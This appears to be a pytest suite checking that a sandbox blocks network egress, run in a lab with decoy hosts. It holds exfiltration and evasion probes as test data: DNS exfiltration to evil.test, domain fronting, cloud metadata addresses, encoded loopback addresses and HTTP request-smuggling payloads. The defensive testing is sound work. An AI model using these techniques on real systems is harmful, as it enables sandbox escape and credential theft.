"""The network rows of the probe list, inside a sandbox with egress, each beside the same probe outside of one.

Outside, on the lab's internet, every probe succeeds (``outsider``); inside it fails at once, and the decoys' own
logs show that nothing arrived. Row ids are those of ``probes.tsv``.
"""

from __future__ import annotations

import csv
from collections.abc import AsyncIterator
from typing import Any

import pytest

from sandbox.launch.egress.inside import reasons
from tests.egress_lab import METADATA, Box, Lab, Prober, laboratory
from tests.shared import shared_data

pytestmark = [pytest.mark.engine, pytest.mark.anyio]

RULES = (
    "allowed.test",
    "http://allowed.test",
    "allowed.test:7777",
    "*.wild.test",
    "http://meta.test",
    "http://loop.test",
    "http://loop6.test",
    "http://mapped.test",
    "http://private.test",
    "http://mixed.test",
    "http://rebind.test",
    "http://rebind-back.test",
    "http://gateway.test",
)
ONCE = 100.0
"""Milliseconds within which a refusal is there; a hang is seconds."""

AT_ONCE = {"ECONNREFUSED", "ECONNRESET", "ENETUNREACH", "EHOSTUNREACH", "EADDRNOTAVAIL", "EACCES", "EPERM", "EINVAL"}
NO_SUCH_NAME = {"GAI-2", "GAI-5"}


@pytest.fixture(scope="module")
def anyio_backend() -> str:
    """One loop for the module's lab."""
    return "asyncio"


@pytest.fixture(scope="module")
async def lab() -> AsyncIterator[Lab]:
    """The small internet."""
    async with laboratory(slot=16) as made:
        yield made


@pytest.fixture(scope="module")
async def box(lab: Lab) -> AsyncIterator[Box]:
    """A prober in a sandbox with egress."""
    async with lab.sandbox(*RULES) as made:
        yield made


@pytest.fixture(scope="module")
async def outsider(lab: Lab) -> Prober:
    """The same prober without a sandbox."""
    return await lab.outsider()


@pytest.fixture(autouse=True)
async def fresh(lab: Lab) -> None:
    """Forget earlier arrivals."""
    await lab.forget()


async def refused(box: Box, lab: Lab, probe: str, errors: set[str] = AT_ONCE) -> dict[str, Any]:
    """Hold one probe to its promise: an error at once, and no arrival anywhere outside the rules."""
    answer = await box.ask(probe)

    assert answer.get("error") in errors, f"{probe}: {answer}"
    assert answer["ms"] < ONCE * 10
    assert [a for a in await lab.arrived() if a["host"] in {"evil", "metadata"}] == []
    return answer


# --- N01, N02: only lo, and no way around ---
async def test_n01_the_only_interface_is_lo(box: Box, outsider: Prober) -> None:
    """Inside there is lo and nothing else; outside there is a network card."""
    assert await box.value("interfaces()") == ["lo"]
    assert len(await outsider.value("interfaces()")) > 1


@pytest.mark.claim("P-EGR-01")
@pytest.mark.parametrize("port", [443, 80, 22, 7777, 8080, 9999])
async def test_n02_direct_egress_to_an_address_is_refused(port: int, box: Box, outsider: Prober, lab: Lab) -> None:
    """A hard-coded address is unreachable on every port, whatever proxies say, and recorded with address and port."""
    probe = f"connect({lab.evil!r}, {port}).getpeername()"
    assert await outsider.value(probe) == [lab.evil, port]
    await lab.forget()

    await refused(box, lab, f"tcp({lab.evil!r}, {port})")
    told = await box.told(lab.evil, port)

    told = [attrs for attrs in told if attrs["reason"] != reasons.UDP]  # another test tries UDP to the same place

    assert {attrs["reason"] for attrs in told} == {reasons.DIRECT}
    assert told[0]["allow_line"].startswith(f'- "{lab.evil}')


async def test_n02_even_the_allowed_host_by_its_address_is_refused(box: Box, outsider: Prober, lab: Lab) -> None:
    """Rules name names: dialling the allowed host's address skips the lookup and is refused."""
    assert "good" in await outsider.value(f"http({lab.good!r})")

    await refused(box, lab, f"http({lab.good!r})")


# --- N03: the positive control ---
@pytest.mark.parametrize(
    ("probe", "found"),
    [
        ("tls('allowed.test', sni='allowed.test')", '"host": "good"'),
        ("http('allowed.test')", '"host": "good"'),
        ("tcp('allowed.test', 7777)", "ping"),
        ("tls('a.wild.test', sni='a.wild.test')", '"host": "good"'),
        ("tls('b.c.wild.test', sni='B.c.wild.TEST')", '"host": "good"'),
    ],
)
async def test_n03_an_allowed_host_is_reached(probe: str, found: str, box: Box, lab: Lab) -> None:
    """TLS, HTTP and any other TCP protocol work without any proxy setting, and arrive at the right host."""
    assert found in await box.value(probe)
    assert {arrival["host"] for arrival in await lab.arrived()} <= {"good", "zone"}


# --- N04 … N08: names ---
@pytest.mark.parametrize(
    ("row", "probe"),
    [
        ("N04", "tls('evil.test', sni='evil.test')"),
        ("N05", "http('evil.test')"),
        ("N08", "tls('evilallowed.test', sni='evilallowed.test')"),
        ("N08", "tls('allowed.test.evil.test', sni='allowed.test')"),
        ("N08", "tls('wild.test', sni='wild.test')"),
        ("N07", "tcp('evil.test%00.allowed.test', 443)"),
        ("N07", "tcp('allowed.test\\t.evil.test', 443)"),
        ("N08", "tcp('xn--allowed-xyz.test', 443)"),
        ("N14", "tcp('host.docker.internal', 80)"),
        ("N14", "tcp('gateway.docker.internal', 80)"),
        ("N12", "tcp('metadata.google.internal', 80)"),
    ],
)
async def test_a_name_that_no_rule_names_does_not_exist(row: str, probe: str, box: Box, lab: Lab) -> None:
    """Denied hosts, suffix tricks and hosts of the engine are no names inside, and nobody outside is asked."""
    await refused(box, lab, probe, NO_SUCH_NAME)

    assert [a["name"] for a in await lab.arrived("zone", "dns")] == []


async def test_n04_the_denied_names_exist_outside(outsider: Prober) -> None:
    """Positive control: the same names lead to the evil host without a sandbox."""
    for probe in ("tls('evil.test', sni='evil.test')", "http('evil.test')", "tls('evilallowed.test', sni='x.test')"):
        assert '"host": "evil"' in await outsider.value(probe)


@pytest.mark.parametrize("path", ["http://evil.test/", "http://allowed.test@evil.test/", "http://evil.test:80/"])
async def test_n05_an_absolute_target_to_another_host_is_refused(
    path: str, box: Box, outsider: Prober, lab: Lab
) -> None:
    """A proxy-style request to another host over an allowed connection is reset; outside it arrives."""
    probe = f"http('allowed.test', path={path!r})"
    assert path in await outsider.value(probe)
    await lab.forget()

    await refused(box, lab, probe, {"ECONNRESET"})
    assert await lab.arrived("good", "request") == []


async def test_n06_a_relay_inside_the_sandbox_gains_nothing(box: Box, lab: Lab) -> None:
    """A listener of the server's own, which re-issues connections, is bound by the same namespace."""
    await box.value("globals().__setitem__('relay', socket.create_server(('127.0.0.1', 3128)))")
    assert await box.value("tcp('127.0.0.1', 3128, b'', 0)") == ""

    await refused(box, lab, f"tcp({lab.evil!r}, 443)")


async def test_n07_bytes_that_no_name_has_find_no_rule(box: Box, lab: Lab) -> None:
    """NUL, dots and spaces inside labels are answered with NXDOMAIN and recorded in an escaped form."""
    for name in ("evil\x00.wild.test", "evil .wild.test", "a\x2e\x00b.wild.test"):
        assert (await box.value(f"dns('198.18.0.53', {name!r})"))["code"] == 3

    assert all("\x00" not in fact.attrs["host"] for fact in await box.facts("egress.dns"))


# --- N09: fronting ---
@pytest.mark.claim("P-EGR-02")
@pytest.mark.parametrize(
    ("probe", "reason"),
    [
        ("tls('allowed.test', sni='evil.test')", reasons.SNI),
        ("tls('allowed.test', sni=None)", reasons.NO_SNI),
        ("tls('a.wild.test', sni='b.c.wild.test')", reasons.SNI),
        ("tcp('allowed.test', 443, b'SSH-2.0-x')", reasons.NOT_TLS),
        ("http('allowed.test', name='evil.test')", reasons.HOST),
    ],
)
async def test_n09_domain_fronting_is_reset(probe: str, reason: str, box: Box, outsider: Prober, lab: Lab) -> None:
    """A name inside that differs from the name that was looked up ends the connection; outside it passes."""
    assert isinstance(await outsider.value(probe), str)
    await lab.forget()

    await refused(box, lab, probe, {"ECONNRESET"})
    assert await lab.arrived("good") == []
    assert (await box.denied(reason))["decision"] == "deny"


# --- N10: DNS ---
@pytest.mark.claim("P-EGR-05")
@pytest.mark.parametrize("server", ["'198.18.0.53'", "'127.0.0.11'", "'1.1.1.1'", "'2606:4700:4700::1111'", "RESOLVER"])
@pytest.mark.parametrize("stream", [False, True])
async def test_n10_dns_exfiltration_reaches_nobody(
    server: str, stream: bool, box: Box, outsider: Prober, lab: Lab
) -> None:
    """Questions with data in them, to any resolver, over UDP and TCP, get NXDOMAIN; the real name server hears none."""
    chosen = server.replace("RESOLVER", repr(lab.resolver))
    answer = await box.value(f"dns({chosen}, 'c2VjcmV0.evil.test', stream={stream})")

    assert answer == {"code": 3, "answers": 0}
    assert await lab.arrived("zone") == []
    told = [fact.attrs["host"] for fact in await box.facts("egress.dns")]
    assert "c2vjcmv0.evil.test" in told


async def test_n10_the_same_question_arrives_outside(outsider: Prober, lab: Lab) -> None:
    """Positive control: without a sandbox the name server sees the data."""
    await outsider.error("resolve('c2VjcmV0.evil.test')")

    assert "c2vjcmv0.evil.test" in {a["name"] for a in await lab.arrived("zone", "dns")}


@pytest.mark.parametrize("host", ["1.1.1.1", "allowed.test"])
async def test_n10_dns_over_tls_is_refused(host: str, box: Box, outsider: Prober, lab: Lab) -> None:
    """Port 853 is no allowed port, not even of an allowed host."""
    assert await outsider.value("tcp('allowed.test', 853)") == "ping"

    await refused(box, lab, f"tcp({host!r}, 853)")


# --- N11 … N13: addresses ---
@pytest.mark.claim("P-EGR-04")
@pytest.mark.parametrize("name", ["meta", "loop", "loop6", "mapped", "private", "gateway", "rebind-back"])
async def test_n11_a_name_that_leads_inside_is_refused(name: str, box: Box, lab: Lab) -> None:
    """A rule for a name does not open loopback, metadata, private or mapped addresses that the name resolves to."""
    await refused(box, lab, f"http('{name}.test')", {"ECONNRESET"})

    assert (await box.denied(reasons.FLOOR))["reason"] == reasons.FLOOR


async def test_n11_the_metadata_decoy_answers_outside(outsider: Prober, lab: Lab) -> None:
    """Positive control: the decoy stands at its address and answers whoever reaches it."""
    assert '"host": "metadata"' in await outsider.value("http('meta.test')")
    assert await lab.arrived("metadata") != []


async def test_n11_the_broker_itself_could_reach_the_decoy(box: Box, lab: Lab) -> None:
    """The decoy is within the broker's reach, so its silence is the floor's doing and nothing else's."""
    provider = box.attachment._provider
    described = await lab.engine.inspect(await provider.start())

    assert lab.metadata_net in described["NetworkSettings"]["Networks"]


async def test_n11_of_mixed_answers_only_the_public_one_is_dialled(box: Box, lab: Lab) -> None:
    """A name with private, metadata and public addresses is reached at the public one."""
    assert '"host": "good"' in await box.value("http('mixed.test')")
    assert await lab.arrived("metadata") == []


async def test_n11_rebinding_changes_nothing_between_check_and_dial(box: Box, lab: Lab) -> None:
    """A name that answers publicly first and with metadata afterwards is dialled where it was checked, or refused."""
    outcomes = [await box.ask("http('rebind.test')") for _ in range(4)]

    assert '"host": "good"' in outcomes[0]["value"]
    assert {outcome.get("error") for outcome in outcomes[1:]} == {"ECONNRESET"}
    assert await lab.arrived("metadata") == []


@pytest.mark.claim("P-EGR-04")
@pytest.mark.parametrize("address", [METADATA, "169.254.170.2", "100.100.100.200", "fd00:ec2::254", "168.63.129.16"])
async def test_n12_the_metadata_service_is_refused(address: str, box: Box, outsider: Prober, lab: Lab) -> None:
    """No metadata address answers inside; the decoy at 169.254.169.254 does outside."""
    assert '"host": "metadata"' in await outsider.value(f"http({METADATA!r})")
    await lab.forget()

    await refused(box, lab, f"http({address!r})")


@pytest.mark.parametrize(
    "host",
    [
        "0x7f.1",
        "2130706433",
        "0177.0.0.1",
        "127.1",
        "::",
        "::ffff:7f00:1",
        "0.0.0.0",
        f"::ffff:{METADATA}",
        "2852039166",
    ],
)
async def test_n13_an_encoded_address_is_the_address(host: str, box: Box, lab: Lab) -> None:
    """However an address is written, it is the namespace's own: nobody listens, nothing leaves."""
    await refused(box, lab, f"http({host!r})")


# --- N14, N15: neighbours ---
@pytest.mark.parametrize("port", [2375, 2376, 22, 80])
async def test_n14_the_engine_host_is_not_there(port: int, box: Box, lab: Lab) -> None:
    """Bridge addresses of the host are addresses of the namespace, where nobody listens."""
    for address in ("172.17.0.1", lab.at(1), "192.168.65.254", "10.0.2.2"):
        await refused(box, lab, f"tcp({address!r}, {port})")


async def test_n14_a_service_of_the_host_is_reached_outside(outsider: Prober, lab: Lab) -> None:
    """Positive control: what listens on the host's wildcard address is reached through the bridge."""
    import socket

    with socket.create_server(("0.0.0.0", 0)) as service:
        port = service.getsockname()[1]
        assert await outsider.error(f"connect({lab.at(1)!r}, {port}).close()") == ""


@pytest.mark.claim("P-EGR-06")
async def test_n15_two_sandboxes_do_not_meet(lab: Lab) -> None:
    """A listener in one sandbox is not reached from another one of the same broker, at any address."""
    async with lab.backend() as (backend, _):
        first, second = await lab.launch(backend, RULES), await lab.launch(backend, RULES)
        await first.value("globals().__setitem__('ear', socket.create_server(('0.0.0.0', 4321)))")
        assert await first.value("tcp('127.0.0.1', 4321, b'', 0)") == ""
        for address in ("127.0.0.1", "198.18.1.0", "10.1.1.1"):
            assert await second.error(f"tcp({address!r}, 4321)") == "ECONNREFUSED"
        for each in (first, second):
            await each.instance.stop(0)
            each.instance.stream.close()


# --- N16, N17: other ways ---
@pytest.mark.parametrize("port", [443, 80, 22])
async def test_n16_ipv6_has_no_way_out(port: int, box: Box, lab: Lab) -> None:
    """Global, unique-local, link-local and NAT64 addresses are refused at once."""
    for address in ("2606:4700:4700::1111", "fd00::1", "64:ff9b::a9fe:a9fe", "fe80::1", "ff02::1"):
        await refused(box, lab, f"tcp({address!r}, {port})")


@pytest.mark.claim("P-EGR-01")
async def test_n17_udp_and_quic_are_refused_at_once(box: Box, outsider: Prober, lab: Lab) -> None:
    """Datagrams to other ports than DNS are refused and recorded; outside the decoy answers them."""
    assert await outsider.value(f"udp({lab.evil!r}, 443)") == "ping"
    await lab.forget()
    for target in (f"{lab.evil!r}, 443", "'allowed.test', 443", "'2606:4700::1', 9999"):
        await refused(box, lab, f"udp({target})")

    assert (await box.denied(reasons.UDP))["protocol"] == "udp"


@pytest.mark.parametrize(
    ("family", "kind", "protocol"),
    [(2, 2, 1), (10, 2, 58), (2, 3, 1), (17, 3, 3), (2, 1, 132), (40, 1, 0)],
    ids=["ping", "ping6", "raw", "packet", "sctp", "vsock"],
)
async def test_n17_n22_no_other_socket_is_made(family: int, kind: int, protocol: int, box: Box) -> None:
    """ICMP, raw, packet, SCTP and hypervisor sockets cannot even be made."""
    assert await box.error(f"kinds({family}, {kind}, {protocol})") in {
        "EPERM", "EACCES", "EPROTONOSUPPORT", "EAFNOSUPPORT", "ESOCKTNOSUPPORT",
    }  # fmt: skip


# --- N18 … N20: ports, redirects, abuse ---
@pytest.mark.parametrize("port", [22, 8443, 8080, 9999])
async def test_n18_another_port_of_an_allowed_host_is_refused(port: int, box: Box, outsider: Prober, lab: Lab) -> None:
    """A rule is a name and ports; the record names the entry that would allow this one."""
    assert await outsider.value(f"connect('allowed.test', {port}).getpeername()") == [lab.good, port]
    await lab.forget()

    await refused(box, lab, f"tcp('allowed.test', {port})", {"ECONNREFUSED"})
    told = await box.told("allowed.test", port)

    assert await lab.arrived("good") == []
    assert (told[0]["reason"], told[0]["allow_line"]) == (reasons.PORT, f'- "allowed.test:{port}"')


async def test_n19_a_redirect_comes_back_through_the_policy(box: Box, lab: Lab) -> None:
    """A redirect of an allowed host to the metadata service leads nowhere: the next hop is a new connection."""
    answer = await box.value("http('allowed.test', path='/redirect')")
    assert f"Location: http://{METADATA}/" in answer

    await refused(box, lab, f"http({METADATA!r})")


@pytest.mark.claim("P-EGR-03")
@pytest.mark.parametrize(
    "probe",
    [
        "http('allowed.test', method='CONNECT', path='evil.test:443')",
        "http('allowed.test', extra='X: ' + 'a' * 70000 + '\\r\\n')",
        "http('allowed.test', extra='Upgrade: h2c\\r\\nConnection: Upgrade\\r\\n')",
        "tcp('allowed.test', 80, b'PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n')",
        "http('allowed.test', extra='Content-Length: 6\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\nGET /')",
    ],
)
async def test_n20_tunnels_smuggling_and_oversized_heads_are_reset(probe: str, box: Box, lab: Lab) -> None:
    """What could carry a second destination over one allowed connection is refused; nothing of it arrives."""
    await refused(box, lab, probe, {"ECONNRESET", "EPIPE", "BrokenPipeError"})

    assert await lab.arrived("good", "request") == []


# --- N21, N23 ---
async def test_n21_there_are_no_abstract_sockets(box: Box, outsider: Prober) -> None:
    """The namespace has no abstract unix socket, of the engine or of anybody."""
    assert await box.value("abstract_names()") == []


async def test_n23_what_the_server_listens_on_stays_inside(box: Box, outsider: Prober, lab: Lab) -> None:
    """Binding works inside, also on ports of rules of other names; nobody outside has an address to reach it at."""
    await box.value("globals().__setitem__('shop', socket.create_server(('0.0.0.0', 8088)))")
    described = await lab.engine.inspect(box.instance.id)
    networks = described["NetworkSettings"]["Networks"] or {}

    assert await box.value("tcp('127.0.0.1', 8088, b'', 0)") == ""
    assert [network.get("IPAddress") for network in networks.values() if network.get("IPAddress")] == []
    assert described["NetworkSettings"]["Ports"] in ({}, None)


async def test_every_network_row_of_the_list_has_a_test() -> None:
    """The rows of the probe list and the tests here do not drift apart."""
    with shared_data("container", "probes.tsv").open(newline="") as table:
        rows = {row["id"] for row in csv.DictReader(table, delimiter="\t") if row["group"] == "net"}
    with open(__file__) as source:  # noqa: PTH123, ASYNC230 - this file
        text = source.read().lower()

    assert {row for row in rows if row.lower() not in text} == set()
